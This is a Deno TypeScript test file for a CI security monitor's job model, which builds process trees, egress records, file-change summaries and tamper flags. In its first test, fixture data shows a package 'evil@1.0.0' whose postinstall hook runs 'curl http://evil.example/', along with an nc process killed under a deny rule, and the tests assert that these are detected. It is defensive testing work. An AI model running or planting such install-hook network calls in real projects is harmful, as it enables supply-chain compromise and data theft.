import assert from "node:assert/strict";
import { fixtureEvents, syntheticEvents } from "../tests/helpers/job_events.ts";
import { JobModel, MAX_ACTIVITY, MAX_PROCESSES } from "./model.ts";
import { agentEvent, SOURCE_FOUND_AT_STOP } from "../sensors/agent_event.ts";

Deno.test("the model builds the tree, egress and marks blocked and killed", () => {
  const model = new JobModel({ mode: "block" });
  for (const event of fixtureEvents()) model.add(event);
  const data = model.data();
  assert.equal(data.header.mode, "block");
  assert.equal(data.header.intact, true);
  assert.equal(data.counts.denied, 2);
  assert.equal(data.counts.killed, 1);
  const curl = data.processes.find((node) => node.pid === 11)!;
  assert.equal(curl.parent, data.processes.find((node) => node.pid === 10)!.id);
  assert.equal(curl.command, "curl http://evil.example/");
  assert.equal(curl.package, "evil@1.0.0 (postinstall)");
  assert.equal(curl.exit, "exit 7");
  assert.equal(curl.blocked, true);
  const nc = data.processes.find((node) => node.pid === 12)!;
  assert.equal(nc.killed, true);
  assert.equal(nc.exit, "signal 9");
  assert.match(nc.why!, /process\.deny \/usr\/bin\/nc/);
  assert.deepEqual(
    data.egress.map((row) => [row.domain, row.address, row.port, row.verdicts]),
    [["evil.example", "198.51.100.7", 80, { deny: 1 }]],
  );
  assert.equal(data.files[0].path, "/home/runner/work/x/out.txt");
  assert.equal(data.steps[0].name, "Build");
});

Deno.test("the model stays bounded on 100,000 events", () => {
  const model = new JobModel();
  for (const event of syntheticEvents(100_000)) model.add(event);
  const data = model.data();
  assert.equal(data.counts.events, 100_000);
  assert.ok(data.processes.length <= MAX_PROCESSES);
  assert.ok(
    data.processes.every((node) => node.activity.length <= MAX_ACTIVITY),
  );
  assert.ok(data.omitted.egress > 0 && data.omitted.files > 0);
  assert.ok(JSON.stringify(data).length < 5_000_000);
});

Deno.test("the model counts a bulk summary's changes, one row per kind", () => {
  const model = new JobModel();
  model.add({
    type: "file_system_summary",
    kind: "bulk",
    time: "2026-11-25T00:00:02.000000000Z",
    pid: 40,
    tid: 40,
    ppid: 1,
    uid: 0,
    gid: 0,
    comm: "npm",
    cgroup_id: 1,
    exe: "/usr/bin/node",
    directory: "/w/node_modules",
    counts: { create: 900, mkdir: 100 },
    total: 1000,
    first: "2026-11-25T00:00:01.000000000Z",
    last: "2026-11-25T00:00:02.000000000Z",
    reason: 'files.watch "/w/**"',
    verdict: "allow",
    exited: true,
  });
  const data = model.data();
  assert.equal(data.counts.fileChanges, 1000);
  assert.deepEqual(
    data.files.map((row) => [row.path, row.kind, row.count]),
    [["/w/node_modules/…", "create", 900], [
      "/w/node_modules/…",
      "mkdir",
      100,
    ]],
  );
});

Deno.test("the model lists a source found gone at stop as tampered", () => {
  const model = new JobModel();
  const gone = { path: "/w/src/main.c", change: "unlink" as const };
  model.add(agentEvent("source", gone));
  model.add(agentEvent("source", gone));
  model.add(agentEvent("source", { path: "/w/src/util.c", change: "rename" }));
  assert.deepEqual(
    model.data().files.map((row) => [
      row.path,
      row.kind,
      row.process,
      row.tamper,
      row.count,
    ]),
    [
      ["/w/src/main.c", "unlink", SOURCE_FOUND_AT_STOP, true, 2],
      ["/w/src/util.c", "rename", SOURCE_FOUND_AT_STOP, true, 1],
    ],
  );
});
